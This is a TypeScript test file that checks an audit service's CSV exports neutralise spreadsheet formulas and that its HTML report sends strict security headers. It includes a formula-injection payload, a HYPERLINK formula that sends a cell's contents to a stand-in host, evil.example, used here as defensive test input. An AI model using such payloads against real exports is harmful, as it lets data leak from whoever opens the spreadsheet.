/**
 * The audit's CSV exports open safely in a spreadsheet: a demand's free-text purpose that is a formula arrives as
 * text, not as a formula the regulator's spreadsheet would run.
 */
import { expect } from "chai";
import { as, publishDemand } from "./chain";
import { get, request, signIn } from "./siwe";

describe("app server: the audit's CSV exports are safe to open", function () {
  this.timeout(180_000);

  it("neutralises a formula in a demand's purpose in loans.csv", async () => {
    const purpose = '=HYPERLINK("https://evil.example/?d="&B2,"Open the attachment")';
    const id = await publishDemand("enterprise5", purpose);
    const regulator = await signIn(as("regulator"));
    const audit = await request("POST", "/api/ledger/audit", { cookie: regulator });
    expect(audit.status).to.equal(200);
    const csv = await (await get("/api/ledger/audit/loans.csv", regulator)).text();
    const line = csv.split("\n").find((l) => l.startsWith(`${id},`));
    expect(line, `loan ${id} in loans.csv`).to.be.a("string");
    expect(line).to.include(`"'=HYPERLINK(""https://evil.example/?d=""&B2,""Open the attachment"")"`);
    // The HTML report keeps its own policy (no script at all, its inline styles), not the API's.
    const report = await get("/api/ledger/audit/report.html", regulator);
    expect(report.headers.get("content-security-policy")).to.equal("default-src 'none'; style-src 'unsafe-inline'; img-src data:; frame-ancestors 'none'");
    expect(report.headers.get("x-content-type-options")).to.equal("nosniff");
    // No cell of any export starts a formula.
    for (const file of ["loans.csv", "participants.csv", "attestations.csv", "movements.csv", "positions.csv", "regulator-actions.csv"]) {
      const text = await (await get(`/api/ledger/audit/${file}`, regulator)).text();
      for (const row of text.split("\n")) expect(row, file).not.to.match(/(^|,)"?[=+@\t\r-]/);
    }
  });
});
